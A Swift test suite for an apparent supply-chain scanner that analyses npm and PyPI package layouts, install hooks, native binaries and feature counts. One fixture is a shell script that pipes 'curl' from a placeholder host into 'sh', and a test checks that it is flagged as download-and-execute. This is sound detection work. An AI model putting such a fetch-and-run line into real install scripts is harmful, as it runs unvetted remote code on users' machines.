import Foundation
import LockgateCore
import Testing

@testable import Analysis

/// Layout and context decisions: ecosystem and root detection, auxiliary files, native binaries, install hooks,
/// inline install code, the size caps and the package features.
@Suite struct PackageLayoutTests {
    static let elf = Data([0x7F, 0x45, 0x4C, 0x46, 2, 1, 1, 0] + [UInt8](repeating: 0, count: 56))

    @Test(arguments: [
        (["package/package.json", "package/index.js"], Ecosystem.npm),
        (["x-1.0/PKG-INFO", "x-1.0/x/__init__.py"], .pypi),
        (["x-1.0/setup.py"], .pypi),
        (["x-1.0/pyproject.toml", "x-1.0/x.py"], .pypi),
        (["x/__init__.py", "x-1.0.dist-info/METADATA"], .pypi),
        (["a.py", "b.py", "c.js"], .pypi),
        (["a.js"], .npm),
        (["x-1.0/package/package.json", "x-1.0/.DS_Store"], .npm),
    ])
    func ecosystemIsDetectedFromContent(paths: [String], expected: Ecosystem) {
        let layout = PackageLayout(files: PackageFixture.files(paths.map { ($0, "") }))
        #expect(layout.detectEcosystem() == expected)
    }

    @Test func rootIsTheShallowestMarkerFolder() {
        let repacked = PackageLayout(files: PackageFixture.files([
            ("x-1.0/.DS_Store", ""), ("x-1.0/package/package.json", "{}"),
            ("x-1.0/package/node_modules/y/package.json", "{}"),
        ]))
        #expect(repacked.root == "x-1.0/package/")
        #expect(PackageLayout(files: PackageFixture.files([("x/a.js", ""), ("x/b/c.js", "")])).root == "x/")
        #expect(PackageLayout(files: PackageFixture.files([("a.js", ""), ("x/b.js", "")])).root == "")
        #expect(PackageLayout(files: PackageFixture.files([("p/__init__.py", ""), ("p-1.dist-info/METADATA", "")])).root == "")
    }

    @Test(arguments: [
        ("package/test/a.js", true), ("package/lib/__tests__/a.js", true), ("package/docs/conf.py", true),
        ("package/examples/x.js", true), ("package/lib/a.spec.js", true), ("package/lib/a.test.ts", true),
        ("package/benchmark/run.js", true), ("package/conftest.py", true), ("package/pkg/test_x.py", true),
        ("package/lib/index.js", false), ("package/lib/testing-utils.js", false), ("package/src/spec.js", false),
        ("package/webpack.config.js", true), ("package/lib/contest.js", false),
    ])
    func auxiliaryFilesAreRecognised(path: String, expected: Bool) {
        let layout = PackageLayout(files: PackageFixture.files([(path, ""), ("package/package.json", "{}")]))
        #expect(layout.isAuxiliary(path) == expected)
    }

    @Test func nativeBinaryIsReportedOnlyWhenThePackageBuildsNothing() {
        let plain =
            PackageFixture.files([("package/package.json", #"{"name": "p"}"#)])
            + [
                PackageFile(path: "package/build/addon.node", data: Self.elf),
                PackageFile(path: "package/bin/helper", data: Self.elf),
            ]
        let bare = PackageFixture.analyzer.analyse(files: plain, ecosystem: .npm)
        #expect(
            bare.sequence.behaviours.filter { $0.kind == .nativeBinary }.map(\.path)
                == ["package/bin/helper", "package/build/addon.node"])
        #expect(bare.sequence.features.binaryFiles == 2)

        let built = plain + PackageFixture.files([("package/binding.gyp", "{}")])
        let gyp = PackageFixture.analyzer.analyse(files: built, ecosystem: .npm)
        #expect(!gyp.sequence.behaviours.contains { $0.kind == .nativeBinary })
        #expect(gyp.sequence.features.binaryFiles == 2)
        #expect(gyp.sequence.features.hasInstallHook)
        #expect(
            PackageFixture.trace(gyp).prefix(3) == [
                "start:install", "install:install_hook@package/binding.gyp:1", "end:install",
            ])
        #expect(gyp.entryNames.first == "install: node-gyp rebuild (binding.gyp)")

        let helper =
            PackageFixture.files([("package/package.json", #"{"name": "p", "dependencies": {"node-gyp-build": "4"}}"#)])
            + [PackageFile(path: "package/prebuilds/linux-x64/p.node", data: Self.elf)]
        #expect(
            !PackageFixture.analyzer.analyse(files: helper, ecosystem: .npm).sequence.behaviours
                .contains { $0.kind == .nativeBinary })
    }

    @Test func nativeMagicIsRecognised() {
        var pe = Data(repeating: 0, count: 0x90)
        pe[0] = 0x4D; pe[1] = 0x5A; pe[0x3C] = 0x80
        pe[0x80] = 0x50; pe[0x81] = 0x45
        #expect(FileKind.hasNativeMagic(pe))
        #expect(FileKind.hasNativeMagic(Self.elf))
        #expect(FileKind.hasNativeMagic(Data([0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1])))
        #expect(FileKind.hasNativeMagic(Data([0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 2])))
        #expect(!FileKind.hasNativeMagic(Data([0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52])))
        #expect(!FileKind.hasNativeMagic(Data("MZ is not enough on its own, a PE header must follow".utf8)))
        #expect(FileKind.of(path: "x/lib.so.1.2", data: Data("x".utf8)) == .binary)
        #expect(FileKind.of(path: "x/cli", data: Data("#!/usr/bin/env node\nx".utf8)) == .javascript)
        #expect(FileKind.of(path: "x/cli", data: Data("#!/usr/bin/python3\nx".utf8)) == .python)
        #expect(FileKind.of(path: "x/types.d.ts", data: Data("x".utf8)) == .other)
    }

    @Test func inlineInstallCodeIsAnalysedAtItsPlaceInPackageJSON() {
        let manifest = """
            {
              "name": "inline",
              "scripts": {"postinstall": "node -e 'b read_env_all' && sh scripts/x.sh"}
            }
            """
        let files = PackageFixture.files([
            ("package/package.json", manifest),
            ("package/scripts/x.sh", "#!/bin/sh\ncurl -s https://example.test/p.sh | sh\n"),
        ])
        let analysis = PackageFixture.analyzer.analyse(files: files, ecosystem: .npm)
        let trace = PackageFixture.trace(analysis)
        #expect(
            trace.prefix(4) == [
                "start:install", "install:install_hook@package/package.json:3",
                "install:shell_command@package/package.json:3",
                "install:read_env_all@package/package.json:3",
            ])
        let inline = analysis.sequence.behaviours.first { $0.kind == .readEnvironmentAll }
        let line = String(manifest.split(separator: "\n")[2])
        let prefix = line.components(separatedBy: "b read_env_all").first ?? ""
        let column = prefix.utf8.count
        #expect(inline?.column == column + 1)
        #expect(
            analysis.sequence.behaviours.contains { $0.kind == .downloadExecute && $0.path == "package/scripts/x.sh" })
        #expect(
            analysis.sequence.behaviours.filter { $0.path == "package/scripts/x.sh" }.allSatisfy {
                $0.context == .install
            })
        #expect(analysis.fileAnalyses.contains { $0.path == "package/scripts/x.sh" && $0.language == .shell })
    }

    @Test func npmRunScriptsAreFollowedOnce() {
        let manifest =
            #"{"name": "r", "scripts": {"postinstall": "npm run setup && npm run setup", "setup": "node s.js"}}"#
        let files = PackageFixture.files([("package/package.json", manifest), ("package/s.js", "b spawn_process")])
        let trace = PackageFixture.trace(PackageFixture.analyzer.analyse(files: files, ecosystem: .npm))
        #expect(
            trace == [
                "start:install", "install:install_hook@package/package.json:1", "install:spawn_process@package/s.js:1",
                "end:install",
            ])
    }

    @Test func featuresCountTheWholePackage() {
        let minified = String(repeating: "var a=function(b,c){return b+c};", count: 100)
        var files = PackageFixture.files([
            ("package/package.json", #"{"name": "f", "scripts": {"install": "node i.js"}}"#),
            ("package/i.js", "b url\n"),
            ("package/index.js", "b read_file\n"),
            ("package/dist/app.min.js", minified),
            ("package/test/t.js", "b eval_code\n"),
            ("package/tools/x.py", "b url\n"),
            ("package/README.md", "hello"),
        ])
        files.append(PackageFile(path: "package/a.node", data: Self.elf))
        let features = PackageFixture.analyzer.analyse(files: files, ecosystem: .npm).sequence.features
        #expect(features.fileCount == 8)
        #expect(features.totalBytes == files.reduce(0) { $0 + $1.data.count })
        #expect(features.javascriptFiles == 4)
        #expect(features.pythonFiles == 1)
        #expect(features.sourceBytes == 6 + 12 + minified.utf8.count + 12 + 6)
        #expect(features.installSourceBytes == "node i.js".utf8.count + 6)
        #expect(features.hasInstallHook)
        #expect(features.binaryFiles == 1)
        #expect(features.minifiedFiles == 1)
        #expect(features.auxiliaryFiles == 1)
    }

    @Test func hugeFilesAreCountedButNotAnalysed() {
        let big = String(repeating: "b url\n", count: PackageAnalyzer.maxFileBytes / 6 + 10)
        let files = PackageFixture.files([("package/package.json", #"{"name": "h"}"#), ("package/index.js", big)])
        let analysis = PackageFixture.analyzer.analyse(files: files, ecosystem: .npm)
        #expect(analysis.skippedFiles == ["package/index.js"])
        #expect(analysis.sequence.behaviours.isEmpty)
        #expect(analysis.sequence.features.sourceBytes == big.utf8.count)
    }

    @Test func brokenMetadataStillAnalyses() {
        let files = PackageFixture.files([
            ("package/package.json", "{\"name\": \"x\", \"scripts\": {\"postinstall\": "),
            ("package/index.js", "b url"),
        ])
        let analysis = PackageFixture.analyzer.analyse(files: files, ecosystem: nil)
        #expect(analysis.ecosystem == .npm)
        #expect(analysis.name == nil)
        #expect(PackageFixture.trace(analysis) == ["start:main", "runtime:url@package/index.js:1", "end:main"])
        let deep = String(repeating: "[", count: 100_000)
        let nested = PackageFixture.files([("package/package.json", deep)])
        #expect(PackageFixture.analyzer.analyse(files: nested, ecosystem: nil).sequence.tokens.isEmpty)
        #expect(PackageFixture.analyzer.analyse(files: [], ecosystem: nil).sequence.tokens.isEmpty)
    }
}
